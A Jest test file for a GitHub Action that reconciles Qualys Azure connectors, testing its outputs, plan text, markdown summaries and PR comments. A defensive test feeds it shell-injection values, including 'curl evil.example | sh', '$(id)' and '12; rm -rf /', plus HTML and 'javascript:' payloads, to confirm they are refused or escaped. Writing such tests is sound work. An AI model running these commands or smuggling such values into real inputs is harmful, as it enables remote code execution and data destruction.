import { describe, expect, it } from '@jest/globals'
import { FORCED_CHANGE, ROTATED_CHANGE, show } from '../src/reconcile/diff.js'
import { SECRET_NOT_KNOWN } from '../src/reconcile/reconcile-connector.js'
import { readConnector } from '../src/qualys/connector.js'
import type { Outcome } from '../src/reconcile/outcome.js'
import { buildOutputs, checkOutputs, connectorRows, planOutput } from '../src/report/outputs.js'
import { planMarkdown, validMarkdown } from '../src/report/job-summary.js'
import { callsLine, planText } from '../src/report/log-lines.js'
import { planComment } from '../src/report/pr-comment-body.js'
import { jobSummaryUrl } from '../src/github/run-url.js'
import { planCommentRoom, PR_COMMENT_MARKER } from '../src/github/pr-comment.js'

const connector = (raw: Record<string, unknown>) => readConnector({ name: 'x', ...raw })

function outcome(over: Partial<Outcome> & Pick<Outcome, 'name' | 'result'>): Outcome {
  return { action: 'none', changes: [], warnings: [], ...over }
}

const created = outcome({
  name: 'prod',
  result: 'created',
  action: 'create',
  changes: [
    { field: 'name', from: '', to: 'prod' },
    { field: 'orgRunFrequency', from: '', to: '1 day' }
  ],
  connector: connector({
    id: 101,
    uuid: 'u-101',
    name: 'prod',
    state: 'PENDING',
    lastError: null,
    secretValue: 'sup3r',
    clientSecret: 'cs',
    tenantId: 't'
  }),
  azureSubscriptions: 3
})
const updated = outcome({
  name: 'stage',
  result: 'updated',
  action: 'update',
  changes: [{ field: 'tenantName', from: 'Old', to: 'New' }],
  connector: connector({ id: 102, name: 'stage', state: 'SUCCESS' })
})
const unchanged = outcome({
  name: 'dev',
  result: 'unchanged',
  connector: connector({ id: 103, name: 'dev', state: 'SUCCESS' })
})
const failedOne = outcome({ name: 'broken', result: 'failed', error: 'no tenant connector with id 9' })

describe('buildOutputs', () => {
  it('one connector: the single-connector outputs, JSON without secrets', () => {
    const outputs = buildOutputs([created])
    expect(outputs['connector-id']).toBe('101')
    expect(outputs['connector-uuid']).toBe('u-101')
    expect(outputs.state).toBe('PENDING')
    expect(outputs.result).toBe('created')
    expect(outputs.changed).toBe('true')
    expect(outputs['last-error']).toBe('')
    const raw = JSON.parse(outputs.connector) as Record<string, unknown>
    expect(raw).toEqual({ id: 101, uuid: 'u-101', name: 'prod', state: 'PENDING', lastError: null, tenantId: 't' })
    expect(outputs.connector).not.toContain('sup3r')
    expect(JSON.parse(outputs.connectors)).toEqual([
      { name: 'prod', id: 101, uuid: 'u-101', state: 'PENDING', result: 'created', azureSubscriptions: 3 }
    ])
    expect(JSON.parse(outputs.plan)).toEqual([{ name: 'prod', action: 'create', changes: created.changes }])
  })

  it('one failed connector: empty single-connector outputs', () => {
    const outputs = buildOutputs([failedOne])
    expect(outputs).toMatchObject({
      'connector-id': '',
      'connector-uuid': '',
      state: '',
      result: 'failed',
      connector: '',
      changed: 'false'
    })
    expect(JSON.parse(outputs.plan)).toEqual([{ name: 'broken', action: 'error', changes: [] }])
    expect(JSON.parse(outputs.connectors)).toEqual([
      { name: 'broken', id: null, uuid: null, state: null, result: 'failed', azureSubscriptions: null }
    ])
  })

  it('many connectors: no single-connector outputs, rows in order', () => {
    const outputs = buildOutputs([created, unchanged, failedOne])
    expect(Object.keys(outputs).sort()).toEqual(['changed', 'connectors', 'last-error', 'plan'])
    expect(JSON.parse(outputs.connectors).map((r: { name: string; result: string }) => [r.name, r.result])).toEqual([
      ['prod', 'created'],
      ['dev', 'unchanged'],
      ['broken', 'failed']
    ])
    expect(JSON.parse(outputs.plan).map((p: { action: string }) => p.action)).toEqual(['create', 'none', 'error'])
  })

  it('changed is true only when something was (or would be) written', () => {
    expect(buildOutputs([unchanged, failedOne, outcome({ name: 'e', result: 'exists' })]).changed).toBe('false')
    expect(buildOutputs([unchanged, updated]).changed).toBe('true')
    expect(buildOutputs([outcome({ name: 'p', result: 'would-create', action: 'create' })]).changed).toBe('true')
    expect(buildOutputs([outcome({ name: 'p', result: 'would-update', action: 'update' })]).changed).toBe('true')
    expect(buildOutputs([outcome({ name: 'v', result: 'valid' })]).changed).toBe('false')
    expect(buildOutputs([]).changed).toBe('false')
  })

  it('last-error is the first lastError of a connector this run wrote', () => {
    const a = outcome({ name: 'a', result: 'updated', written: true, connector: connector({ id: 1, lastError: '' }) })
    const b = outcome({
      name: 'b',
      result: 'failed',
      written: true,
      connector: connector({ id: 2, lastError: 'Invalid client secret' })
    })
    const c = outcome({
      name: 'c',
      result: 'failed',
      written: true,
      connector: connector({ id: 3, lastError: 'second' })
    })
    const untouched = outcome({
      name: 'u',
      result: 'unchanged',
      connector: connector({ id: 4, lastError: 'an old error' })
    })
    expect(buildOutputs([untouched, a, b, c])['last-error']).toBe('Invalid client secret')
    expect(buildOutputs([a])['last-error']).toBe('')
    expect(buildOutputs([untouched])['last-error']).toBe('')
  })

  it('changed is true when a write happened even if its first sync then failed', () => {
    const syncFailed = outcome({ name: 's', result: 'failed', action: 'create', written: true })
    expect(buildOutputs([syncFailed]).changed).toBe('true')
    expect(buildOutputs([outcome({ name: 'f', result: 'failed' })]).changed).toBe('false')
  })

  it('connectorRows and planOutput copy only what they name', () => {
    expect(connectorRows([updated])).toEqual([
      { name: 'stage', id: 102, uuid: null, state: 'SUCCESS', result: 'updated', azureSubscriptions: null }
    ])
    expect(connectorRows([{ ...updated, azureSubscriptions: 0 }])[0].azureSubscriptions).toBe(0)
    const withExtra = outcome({
      name: 'x',
      result: 'would-update',
      action: 'update',
      changes: [{ field: 'tenantName', from: 'a', to: 'b', extra: 1 } as never]
    })
    expect(planOutput([withExtra])).toEqual([
      { name: 'x', action: 'update', changes: [{ field: 'tenantName', from: 'a', to: 'b' }] }
    ])
  })
})

describe('show', () => {
  it('keeps a value with line breaks on one line', () => {
    expect(show('description', 'first\n::warning::second\r\nthird')).toBe('first⏎::warning::second⏎third')
  })
})

describe('planText', () => {
  it('groups the changes under each connector with a sign per action', () => {
    const text = planText([created, updated, unchanged, failedOne], 'apply')
    expect(text.split('\n')).toEqual([
      '+ prod: created (id 101, PENDING)',
      '    + name: prod',
      '    + orgRunFrequency: 1 day',
      '~ stage: updated (id 102, SUCCESS)',
      '    ~ tenantName: Old → New',
      '= dev: up to date (id 103, SUCCESS)',
      '✗ broken: failed',
      '    ! no tenant connector with id 9'
    ])
  })

  it('says what plan mode would do, including forced updates, rotations, exists, notes and warnings', () => {
    const lines = planText(
      [
        outcome({
          name: 'a',
          result: 'would-create',
          action: 'create',
          changes: [{ field: 'name', from: '', to: 'a' }],
          warnings: ['the listing is not available']
        }),
        outcome({
          name: 'b',
          result: 'would-update',
          action: 'update',
          changes: [FORCED_CHANGE],
          connector: connector({ id: 5 })
        }),
        outcome({
          name: 'r',
          result: 'would-update',
          action: 'update',
          changes: [ROTATED_CHANGE],
          connector: connector({ id: 7 })
        }),
        outcome({ name: 'c', result: 'exists', connector: connector({ id: 6 }), notes: [SECRET_NOT_KNOWN] }),
        outcome({ name: 'd', result: 'failed', error: 'boom' })
      ],
      'plan'
    ).split('\n')
    expect(lines).toEqual([
      '+ a: will be created',
      '    + name: a',
      '    ! the listing is not available',
      '~ b: will be updated (id 5)',
      '    ~ secretValue: re-sent (force-update)',
      '~ r: will be updated (id 7)',
      '    ~ secretValue: rotated',
      '= c: exists, left as it is (id 6)',
      '    · secretValue: not known — the next write records it',
      '✗ d: cannot be planned',
      '    ! boom'
    ])
  })

  it('marks a forced update in apply mode by its secretValue row', () => {
    expect(
      planText(
        [
          outcome({
            name: 'f',
            result: 'updated',
            action: 'update',
            changes: [FORCED_CHANGE],
            connector: connector({ id: 1 })
          })
        ],
        'apply'
      )
    ).toBe('~ f: updated (id 1)\n    ~ secretValue: re-sent (force-update)')
  })
})

describe('planMarkdown', () => {
  it('renders a summary and one table row per connector', () => {
    const md = planMarkdown([created, updated, unchanged, failedOne], 'apply', 'Qualys connectors')
    const lines = md.split('\n')
    expect(lines[0]).toBe('### Qualys connectors')
    expect(lines[2]).toBe('**Applied:** 1 created, 1 updated, 1 unchanged, 1 failed.')
    expect(lines[4]).toBe('| | Connector | Result | Id | State | Azure subscriptions | Changes |')
    expect(lines[5]).toBe('|---|---|---|---|---|---|---|')
    expect(lines[6]).toBe(
      '| 🆕 | `prod` | created | 101 | `PENDING` | 3 | `name` = `prod`<br>`orgRunFrequency` = `1 day` |'
    )
    expect(lines[7]).toBe('| ✏️ | `stage` | updated | 102 | `SUCCESS` |  | `tenantName`: `Old` → `New` |')
    expect(lines[8]).toBe('| ✅ | `dev` | unchanged | 103 | `SUCCESS` |  |  |')
    expect(lines[9]).toBe('| ❌ | `broken` | failed |  |  |  | **`no tenant connector with id 9`** |')
    expect(md.endsWith('|\n')).toBe(true)
  })

  it('shows the secret rows as a reason (`secretValue`: rotated), and a note without counting it as a change', () => {
    const md = planMarkdown(
      [
        outcome({ name: 'r', result: 'would-update', action: 'update', changes: [ROTATED_CHANGE] }),
        outcome({ name: 'f', result: 'would-update', action: 'update', changes: [FORCED_CHANGE] }),
        outcome({ name: 'n', result: 'unchanged', notes: [SECRET_NOT_KNOWN] })
      ],
      'plan',
      'Plan'
    )
    expect(md).toContain('| ✏️ | `r` | would-update |  |  | `secretValue`: `rotated` |')
    expect(md).toContain('| ✏️ | `f` | would-update |  |  | `secretValue`: `re-sent (force-update)` |')
    expect(md).toContain('| ✅ | `n` | unchanged |  |  | ℹ️ `secretValue: not known — the next write records it` |')
    expect(md).toContain('**Plan:** 0 to create, 2 to update, 1 unchanged.')
  })

  it('counts plan results', () => {
    const md = planMarkdown(
      [
        outcome({ name: 'a', result: 'would-create', action: 'create' }),
        outcome({ name: 'b', result: 'would-update', action: 'update' }),
        outcome({ name: 'c', result: 'would-update', action: 'update' }),
        outcome({ name: 'd', result: 'exists' })
      ],
      'plan',
      'Plan'
    )
    expect(md).toContain('**Plan:** 1 to create, 2 to update, 1 unchanged.')
    // A plan asks nothing of Azure: no subscriptions column.
    expect(md).toContain('| | Connector | Result | Id | State | Changes |')
    expect(md).not.toContain('with errors')
    expect(planMarkdown([failedOne], 'plan', 'Plan')).toContain(', 1 with errors.')
  })

  it('puts outside text in code spans: pipes, newlines, < and backslashes cannot break the table', () => {
    const nasty = outcome({
      name: 'a|b<script>',
      result: 'failed',
      error: 'line 1\nline 2 | <img src=x>\r\nend \\ here'
    })
    const row = planMarkdown([nasty], 'apply', 'T').split('\n')[6]
    expect(row).toBe('| ❌ | `a\\|b<script>` | failed |  |  |  | **`line 1 line 2 \\| <img src=x> end \\ here`** |')
    // Exactly the 8 unescaped pipes of a 7-column row.
    expect(row.match(/(?<!\\)\|/g)).toHaveLength(8)
  })

  it('puts changes and warnings in code spans too, joined with <br>', () => {
    const row = planMarkdown(
      [
        outcome({
          name: 'n',
          result: 'would-update',
          action: 'update',
          changes: [{ field: 'description', from: 'a|b', to: 'c\nd' }],
          warnings: ['w1 <b>', 'w2']
        })
      ],
      'plan',
      'T'
    ).split('\n')[6]
    expect(row).toBe('| ✏️ | `n` | would-update |  |  | `description`: `a\\|b` → `c d`<br>⚠️ `w1 <b>`<br>⚠️ `w2` |')
  })

  it('puts the state from Qualys, and the names of the validate summary, in code spans', () => {
    const row = planMarkdown(
      [
        outcome({
          name: 'n',
          result: 'unchanged',
          connector: connector({ id: 5, name: 'n', state: '<details open>|@admin' })
        })
      ],
      'plan',
      'T'
    ).split('\n')[6]
    expect(row).toBe('| ✅ | `n` | unchanged | 5 | `<details open>\\|@admin` |  |')
    // Not a table: the pipe needs no backslash there (in a code span it would show).
    expect(validMarkdown(['a|b', '<img src=x>', '@team'])).toBe(
      '### Qualys Azure tenant connectors: spec valid\n\n- `a|b`\n- `<img src=x>`\n- `@team`\n'
    )
  })

  it('has a stable marker for the pull-request comment', () => {
    expect(PR_COMMENT_MARKER).toMatch(/^<!-- .+ -->$/)
  })

  it("leaves the plan GitHub's comment limit less the marker's line and the owner's key line", () => {
    const ownerLine = '<!-- qualys-plan-owner 0123456789abcdef -->'
    expect(planCommentRoom()).toBe(65_536 - PR_COMMENT_MARKER.length - 1 - ownerLine.length - 1)
  })
})

describe('planComment', () => {
  const many = Array.from({ length: 400 }, (_, i) =>
    outcome({
      name: `connector-${String(i).padStart(3, '0')}`,
      result: i % 2 ? 'would-update' : 'unchanged',
      action: i % 2 ? 'update' : 'none',
      changes: i % 2 ? [{ field: 'description', from: 'o'.repeat(300), to: 'n'.repeat(300) }] : []
    })
  )

  it('is the plan itself when it fits', () => {
    expect(planComment([created], 'Plan', undefined, 65_000)).toBe(planMarkdown([created], 'plan', 'Plan'))
  })

  it('a plan too long for GitHub is shortened: counts, connectors with changes first, a link to the job summary', () => {
    const url = 'https://github.com/o/r/actions/runs/42'
    const full = planMarkdown(many, 'plan', 'Plan')
    expect(full.length).toBeGreaterThan(65_536)
    const short = planComment(many, 'Plan', url, 65_000)
    expect(short.length).toBeLessThanOrEqual(65_000)
    expect(short).toContain('**Plan:** 0 to create, 200 to update, 200 unchanged.')
    expect(short).toContain(`[the job summary of this run](${url})`)
    const rows = short.split('\n').filter(line => line.startsWith('| ✏️') || line.startsWith('| ✅'))
    expect(rows.length).toBeGreaterThan(50)
    expect(rows[0]).toContain('connector-001')
    expect(rows.every(row => row.includes('would-update'))).toBe(true)
    expect(short).toMatch(new RegExp(`… and ${400 - rows.length} more connectors, in \\[the job summary`))
  })
})

describe('shell-interpolated outputs', () => {
  const good = {
    'connector-uuid': '0b3d5f7a-1c2e-4a6b-8d9f-3e5a7c9b1d20',
    'connector-id': '101',
    state: 'FINISHED_SUCCESS',
    result: 'created',
    connectors: '[]'
  }

  it('keeps values of the expected forms', () => {
    expect(checkOutputs(good)).toEqual({ outputs: good, refused: [] })
    expect(checkOutputs({ ...good, state: '', 'connector-uuid': '' }).refused).toEqual([])
  })

  it.each<[string, string]>([
    ['state', 'ERROR"; curl evil.example | sh; echo "'],
    ['state', '$(id)'],
    ['state', 'finished'],
    ['connector-uuid', 'u-101'],
    ['connector-uuid', '0b3d5f7a-1c2e-4a6b-8d9f-3e5a7c9b1d20\n::add-mask::x'],
    ['connector-id', '12; rm -rf /'],
    ['result', 'created`id`']
  ])('refuses %s = %j: not set, and said which', (output, value) => {
    const { outputs, refused } = checkOutputs({ ...good, [output]: value })
    expect(outputs[output]).toBe('')
    expect(refused).toEqual([{ output, form: expect.any(String) }])
    expect(outputs.connectors).toBe('[]')
  })

  it("builds the run page from the runner's variables, refusing odd ones", () => {
    expect(
      jobSummaryUrl({ GITHUB_SERVER_URL: 'https://github.com', GITHUB_REPOSITORY: 'o/r', GITHUB_RUN_ID: '42' })
    ).toBe('https://github.com/o/r/actions/runs/42')
    expect(
      jobSummaryUrl({ GITHUB_SERVER_URL: 'https://github.com', GITHUB_REPOSITORY: 'o/r)[x](y', GITHUB_RUN_ID: '42' })
    ).toBeUndefined()
    expect(
      jobSummaryUrl({ GITHUB_SERVER_URL: 'javascript:alert(1)', GITHUB_REPOSITORY: 'o/r', GITHUB_RUN_ID: '42' })
    ).toBeUndefined()
    expect(jobSummaryUrl({})).toBeUndefined()
  })
})

describe('callsLine', () => {
  it('states the call counts', () => {
    expect(callsLine({ calls: 12, retried: 2, throttled: 1 })).toBe('Qualys API calls: 12 made, 2 retried, 1 throttled')
    expect(callsLine({ calls: 0, retried: 0, throttled: 0 })).toBe('Qualys API calls: 0 made, 0 retried, 0 throttled')
  })
})
